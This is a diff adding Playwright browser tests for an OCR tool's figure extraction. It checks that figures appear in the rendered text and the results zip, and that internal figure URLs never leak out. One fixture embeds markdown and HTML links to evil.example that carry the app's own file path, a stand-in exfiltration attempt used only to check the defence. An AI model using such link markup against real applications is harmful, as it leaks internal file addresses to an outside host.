@@ -1,0 +1,75 @@
+"""Figures stand in the text where the page has them, and go along with it."""
+
+from __future__ import annotations
+
+import io
+import zipfile
+from pathlib import Path
+
+import pytest
+from PIL import Image
+from playwright.async_api import Browser, Page, expect
+
+from ocr.documents import Renderer
+from tests.browser.conftest import Witness, add, read, visit
+from tests.conftest import SAMPLES
+from tests.ui.readers import ScriptedReader, forever
+from tests.ui.serving import served
+
+pytestmark = [pytest.mark.anyio, pytest.mark.timeout(90)]
+FIGURE = "figures/page-2-1.png"
+
+
+async def test_figures_are_in_the_text_and_in_the_zip(page: Page, tmp_path: Path) -> None:
+    """The chart of the article's second page is drawn over its caption, and is the file that the zip holds."""
+    await add(page, SAMPLES / "article.pdf")
+    await page.get_by_role("button", name="article.pdf page 3: waiting").wait_for()
+    await page.get_by_role("textbox", name="Pages").fill("2")
+    await read(page)
+    figure = page.locator("#pl-text img")
+    await expect(figure).to_be_visible()
+    await page.wait_for_function("document.querySelector('#pl-text img[src^=\"gradio_api\"]')?.naturalWidth > 300")
+    assert (await figure.get_attribute("alt") or "").startswith("Figure 1.")
+    shown = await figure.evaluate("image => [image.naturalWidth, image.naturalHeight]")
+
+    async with page.expect_download() as download:
+        await page.get_by_role("link", name="results.zip").click()
+    await (await download.value).save_as(tmp_path / "results.zip")
+    with zipfile.ZipFile(tmp_path / "results.zip") as archive:
+        assert {"document.md", "result.json", FIGURE} <= set(archive.namelist())
+        assert f"]({FIGURE})" in archive.read("document.md").decode()
+        with Image.open(io.BytesIO(archive.read(FIGURE))) as image:
+            assert list(image.size) == shown
+
+
+async def test_figures_url_never_meets_page_text(browser: Browser, renderer: Renderer, letter: Path) -> None:
+    """A text that refers to its own figures gets pictures, or a blank, but no address that it could carry away."""
+    own = "![x](figures/page-1-1.png)"
+    text = (
+        f"![image](100,100,900,500)\n\n![text](100,500,900,600) [click](https://evil.example/?{own}) "
+        f"<a href='https://evil.example/?{own}'>here</a> `{own}` ![y](figures/page-1-9.png) End."
+    )
+    with served(ScriptedReader([[text, forever]]), renderer) as app:
+        context = await browser.new_context()
+        context.set_default_timeout(15_000)
+        try:
+            page = await context.new_page()
+            witness = Witness(app.url.split("/")[2])
+            witness.watch(page)
+            await visit(page, app)
+            await add(page, letter)
+            await page.get_by_role("button", name="letter.pdf page 1: waiting").wait_for()
+            await read(page)
+            await page.locator("#pl-text img[src^='gradio_api/file=']").first.wait_for()
+            found = await page.locator("#pl-text").evaluate(
+                "text => [...text.querySelectorAll('*')].flatMap(one => [...one.attributes].map(own => "
+                "[one.tagName, own.name, own.value])).filter(([,, value]) => value.includes('file='))"
+            )
+            assert {(tag, name) for tag, name, _ in found} == {("IMG", "src")}
+            assert "file=" not in await page.locator("#pl-text").inner_text()
+            missing = page.get_by_role("img", name="y", exact=True)
+            assert await missing.evaluate("image => image.complete && image.naturalWidth > 0")
+        finally:
+            await context.close()
+    assert witness.complaints == []
+    assert witness.outside == []
